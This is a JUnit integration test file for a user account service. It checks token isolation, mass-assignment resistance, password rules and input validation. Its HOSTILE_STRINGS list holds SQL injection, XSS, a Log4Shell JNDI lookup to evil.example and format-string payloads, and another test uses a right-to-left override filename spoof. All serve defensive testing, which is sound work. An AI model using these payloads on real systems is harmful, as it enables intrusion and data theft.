package io.coinlens.users.account;

import io.coinlens.users.support.Api;
import io.coinlens.users.support.Api.Account;
import io.coinlens.users.support.Api.Tokens;
import io.coinlens.users.support.UserServiceTestBase;
import org.junit.jupiter.api.Test;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.coinlens.users.support.Problems.assertNoInternals;
import static io.coinlens.users.support.Problems.assertProblem;
import static io.coinlens.users.support.Problems.invalidFields;
import static org.assertj.core.api.Assertions.assertThat;

class AccountIntegrationTests extends UserServiceTestBase {

    private static final List<String> HOSTILE_STRINGS = List.of(
            "Robert'); DROP TABLE users; --",
            "' OR '1'='1' --",
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}} %s %n");

    @Test
    void aTokenOnlyEverReachesItsOwnUser() {
        Account alice = api.register();
        Account bob = api.register();
        Tokens aliceTokens = api.login(alice);
        Tokens bobTokens = api.login(bob);

        assertThat(api.profile(aliceTokens.accessToken())).containsEntry("id", alice.id()).containsEntry("email", alice.email());

        // Alice names Bob everywhere she can; her token still only reaches her own account.
        Map<String, Object> update = Map.of("displayName", "Alice", "id", bob.id(), "email", bob.email(),
                "userId", bob.id(), "role", "admin");
        api.send(HttpMethod.PATCH, "/api/v1/users/me", aliceTokens.accessToken(), update).expectStatus().isOk();
        api.send(HttpMethod.PUT, "/api/v1/users/me/preferences", aliceTokens.accessToken(), Map.of("userId", bob.id(),
                "quoteCurrency", "EUR", "timeZone", "Europe/Paris",
                "notifications", Map.of("email", false, "push", true, "priceAlerts", true, "signals", true))).expectStatus().isOk();
        api.get("/api/v1/users/me?id=" + bob.id(), aliceTokens.accessToken()).expectStatus().isOk()
                .expectBody().jsonPath("$.id").isEqualTo(alice.id());

        assertThat(api.profile(bobTokens.accessToken()))
                .containsEntry("id", bob.id()).containsEntry("email", bob.email()).doesNotContainKey("displayName");
        api.get("/api/v1/users/me/preferences", bobTokens.accessToken()).expectStatus().isOk()
                .expectBody().jsonPath("$.quoteCurrency").isEqualTo("USD").jsonPath("$.timeZone").isEqualTo("UTC");
        assertThat(api.profile(aliceTokens.accessToken())).containsEntry("displayName", "Alice");
    }

    @Test
    void ignoresFieldsOutsideTheAllowList() {
        Account account = api.register();
        Tokens tokens = api.login(account);
        String otherId = UUID.randomUUID().toString();

        api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(),
                        Map.of("role", "admin", "id", otherId, "email", "attacker@example.com", "createdAt", "2000-01-01T00:00:00Z"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.role").isEqualTo("user")
                .jsonPath("$.id").isEqualTo(account.id())
                .jsonPath("$.email").isEqualTo(account.email());

        // A fresh token still carries only the user role.
        Tokens again = api.login(account);
        api.send(HttpMethod.POST, "/api/v1/auth/signing-keys/rotate", again.accessToken(), null).expectStatus().isForbidden();
        assertThat(count("select count(*) from users where id = $1", UUID.fromString(otherId))).isZero();
    }

    @Test
    void registrationIgnoresRoleAndId() {
        String id = UUID.randomUUID().toString();
        Map<String, Object> profile = api.client().post().uri("/api/v1/auth/register").contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("email", Api.newEmail(), "password", Api.newPassword(), "role", "admin", "id", id))
                .exchange().expectStatus().isCreated()
                .expectBody(new ParameterizedTypeReference<Map<String, Object>>() { }).returnResult().getResponseBody();
        assertThat(profile).containsEntry("role", "user");
        assertThat(profile.get("id")).isNotEqualTo(id);
    }

    @Test
    void patchChangesOrClearsTheDisplayName() {
        Tokens tokens = api.login(api.register());
        api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(), Map.of("displayName", "  Grace  "))
                .expectStatus().isOk().expectBody().jsonPath("$.displayName").isEqualTo("Grace");
        api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(), Map.of())
                .expectStatus().isOk().expectBody().jsonPath("$.displayName").isEqualTo("Grace");
        api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(), Map.of("displayName", ""))
                .expectStatus().isOk().expectBody().jsonPath("$.displayName").doesNotExist();

        Map<String, Object> control = assertProblem(api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(),
                Map.of("displayName", "evil\u202Egnp.exe")), 400);
        assertThat(invalidFields(control)).containsExactly("displayName");
        Map<String, Object> tooLong = assertProblem(api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(),
                Map.of("displayName", "x".repeat(101))), 400);
        assertThat(invalidFields(tooLong)).containsExactly("displayName");
    }

    @Test
    void storesHostileStringsVerbatimOrRejectsThemHarmlessly() {
        for (String hostile : HOSTILE_STRINGS) {
            // As a password: any characters are allowed, and it works.
            Account account = api.register(Api.newEmail(), hostile + " long enough");
            Tokens tokens = api.login(account);

            // As a display name: stored and returned exactly, as JSON data that no browser may sniff as HTML.
            api.send(HttpMethod.PATCH, "/api/v1/users/me", tokens.accessToken(), Map.of("displayName", hostile))
                    .expectStatus().isOk()
                    .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_JSON)
                    .expectHeader().valueEquals("X-Content-Type-Options", "nosniff");
            assertThat(api.profile(tokens.accessToken())).containsEntry("displayName", hostile);
            assertThat(db.sql("select display_name from users where id = :id").bind("id", UUID.fromString(account.id()))
                    .map(row -> row.get(0, String.class)).one().block()).isEqualTo(hostile);

            // As an email, a login email, a time zone or a currency: refused with a plain 4xx, nothing executed.
            assertThat(api.client().post().uri("/api/v1/auth/register").contentType(MediaType.APPLICATION_JSON)
                    .bodyValue(Map.of("email", hostile, "password", Api.newPassword()))
                    .exchange().expectBody(String.class).returnResult().getStatus().value()).isEqualTo(400);
            assertProblem(new Api(clientFrom(nextAddress())).attemptLogin(hostile, hostile), 401);
            Map<String, Object> preferences = assertProblem(api.send(HttpMethod.PUT, "/api/v1/users/me/preferences",
                    tokens.accessToken(), Map.of("quoteCurrency", hostile, "timeZone", hostile,
                            "notifications", Map.of("email", true, "push", true, "priceAlerts", true, "signals", true))), 400);
            assertThat(invalidFields(preferences)).containsExactlyInAnyOrder("quoteCurrency", "timeZone");
        }
        // An email with SQL in its local part is a valid address: it is stored as typed.
        Account quoted = api.register("o'brien--" + UUID.randomUUID() + "@example.com", Api.newPassword());
        assertThat(api.profile(api.login(quoted).accessToken())).containsEntry("email", quoted.email());
        assertThat(count("select count(*) from users")).isPositive();
    }

    @Test
    void preferencesHaveDefaultsAndAreValidated() {
        Tokens tokens = api.login(api.register());
        api.get("/api/v1/users/me/preferences", tokens.accessToken()).expectStatus().isOk().expectBody()
                .jsonPath("$.quoteCurrency").isEqualTo("USD")
                .jsonPath("$.timeZone").isEqualTo("UTC")
                .jsonPath("$.notifications.email").isEqualTo(true);

        Map<String, Object> preferences = new HashMap<>(Map.of("quoteCurrency", "usdt", "timeZone", "America/New_York",
                "notifications", Map.of("email", false, "push", true, "priceAlerts", false, "signals", true)));
        api.send(HttpMethod.PUT, "/api/v1/users/me/preferences", tokens.accessToken(), preferences)
                .expectStatus().isOk().expectBody().jsonPath("$.quoteCurrency").isEqualTo("USDT");
        api.get("/api/v1/users/me/preferences", tokens.accessToken()).expectBody()
                .jsonPath("$.timeZone").isEqualTo("America/New_York")
                .jsonPath("$.notifications.push").isEqualTo(true);

        preferences.put("quoteCurrency", "DOGE");
        preferences.put("timeZone", "Mars/Olympus_Mons");
        assertThat(invalidFields(assertProblem(api.send(HttpMethod.PUT, "/api/v1/users/me/preferences",
                tokens.accessToken(), preferences), 400))).containsExactlyInAnyOrder("quoteCurrency", "timeZone");

        preferences.put("quoteCurrency", "EUR");
        preferences.put("timeZone", "+02:00");
        assertThat(invalidFields(assertProblem(api.send(HttpMethod.PUT, "/api/v1/users/me/preferences",
                tokens.accessToken(), preferences), 400))).containsExactly("timeZone");

        preferences.put("timeZone", "Europe/Berlin");
        preferences.remove("notifications");
        assertThat(invalidFields(assertProblem(api.send(HttpMethod.PUT, "/api/v1/users/me/preferences",
                tokens.accessToken(), preferences), 400))).containsExactly("notifications");

        preferences.put("notifications", Map.of("email", "sometimes", "push", true, "priceAlerts", true, "signals", true));
        assertThat(invalidFields(assertProblem(api.send(HttpMethod.PUT, "/api/v1/users/me/preferences",
                tokens.accessToken(), preferences), 400))).containsExactly("notifications.email");
    }

    @Test
    void rejectsTooShortAndCommonPasswordsNamingTheField() {
        for (String password : List.of("", "short", "7 chars", "password123", "Baseball", "QWERTYUIOP")) {
            Map<String, Object> problem = assertProblem(api.client().post().uri("/api/v1/auth/register")
                    .contentType(MediaType.APPLICATION_JSON)
                    .bodyValue(Map.of("email", Api.newEmail(), "password", password)).exchange(), 400);
            assertThat(invalidFields(problem)).as(password).containsExactly("password");
        }
        String email = Api.newEmail();
        assertThat(invalidFields(assertProblem(api.client().post().uri("/api/v1/auth/register")
                .contentType(MediaType.APPLICATION_JSON).bodyValue(Map.of("email", email, "password", email)).exchange(), 400)))
                .containsExactly("password");
        assertThat(invalidFields(assertProblem(api.client().post().uri("/api/v1/auth/register")
                .contentType(MediaType.APPLICATION_JSON).bodyValue(Map.of("email", Api.newEmail(), "password", "x".repeat(129)))
                .exchange(), 400))).containsExactly("password");
    }

    @Test
    void acceptsLongAndUnicodePasswordsWithoutCompositionRules() {
        for (String password : List.of("alllowercaseletters", "x".repeat(64), "y".repeat(128), "🔐🦄🌍🎲🚀🧩🎈🐙",
                "pässwörd mit ümläuten", "パスワードは長いです")) {
            Account account = api.register(Api.newEmail(), password);
            api.attemptLogin(account.email(), password).expectStatus().isOk();
        }
    }

    @Test
    void emailsAreUniqueIgnoringCase() {
        Account account = api.register();
        Map<String, Object> problem = assertProblem(api.client().post().uri("/api/v1/auth/register")
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("email", account.email().toUpperCase(), "password", Api.newPassword())).exchange(), 409);
        assertNoInternals(problem.toString());
    }

    @Test
    void registrationNamesMissingAndMalformedFields() {
        assertThat(invalidFields(assertProblem(api.client().post().uri("/api/v1/auth/register")
                .contentType(MediaType.APPLICATION_JSON).bodyValue(Map.of("email", "not-an-email")).exchange(), 400)))
                .containsExactlyInAnyOrder("email", "password");
    }
}
